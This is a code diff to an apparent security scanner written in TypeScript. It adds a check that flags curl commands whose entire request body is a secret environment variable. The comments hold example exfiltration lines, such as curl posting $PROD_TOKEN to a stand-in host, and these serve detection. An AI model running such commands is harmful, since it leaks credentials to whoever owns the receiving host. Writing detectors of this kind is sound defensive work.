@@ -3,6 +3,7 @@ import type { ArgWord, CodeSnippet, Finding, Invocation, Target } from '../../po
 import { isSecretVariableName, positionals, secretRoleOf } from './huntCommon';
 import { carriedOut } from './sentOutCarriers';
 import { freeFormReadings } from '../../registry/freeForm';
+import { parsedArgs, toolArgs, toolNamed } from '../../registry/commandModel';
 import { hostServiceId } from './serviceHosts';
 import { argvSecrets, awkSocketSends } from './argvSecretSends';
 import { sshSentVariables } from './sendEnvCarriers';
@@ -151,6 +152,19 @@ function belongsTo(variable: string, destination: Destination, sender?: string):
   return host !== undefined && hostServiceId(host) === service.id;
 }
 
+/**
+ * `curl -d "$PROD_TOKEN" https://x.example`: the secret is the whole request body, the value itself delivered (a
+ * credential that signs a request in goes in a header or `-u`); whoever owns the host receives it.
+ */
+function wholeBody(inv: Invocation, variable: string): boolean {
+  const spec = inv.name === 'curl' ? toolNamed('curl') : undefined;
+  if (!spec) return false;
+  const bodies = toolArgs(inv.name, parsedArgs(inv.args, spec), spec).values('--data', '--data-binary', '--data-raw', '--data-ascii', '--data-urlencode', '--json');
+  const bare = new RegExp(`^["']?\\$\\{?${variable}\\}?["']?$`);
+  // A variable assigned from the secret (`T="$PROD_TOKEN"`) is written back into the word as written (`"${PROD_TOKEN}"`).
+  return bodies.some((b) => bare.test(b.trim()) || inv.args.some((w) => w.text === b && bare.test(w.raw.trim())));
+}
+
 /** `curl --variable %STRIPE_SECRET_KEY --expand-url '…{{STRIPE_SECRET_KEY}}'`: an environment variable imported and expanded into what curl sends. */
 function curlImportedSecrets(args: readonly ArgWord[]): string[] {
   const options = freeFormReadings(args).valued.options;
@@ -178,7 +192,7 @@ export function checkSentOut(inv: Invocation): Finding[] {
       const own = belongsTo(variable, d, inv.name);
       const drop = d.host !== undefined && DROP_HOSTS.test(d.host);
       if (own === true && !drop) continue;
-      if (own === undefined && !drop) continue;
+      if (own === undefined && !drop && !wholeBody(inv, variable)) continue;
       const where = d.host ?? `the address in $${d.variable}`;
       findings.push({
         rule: 'credentials.sent-out',
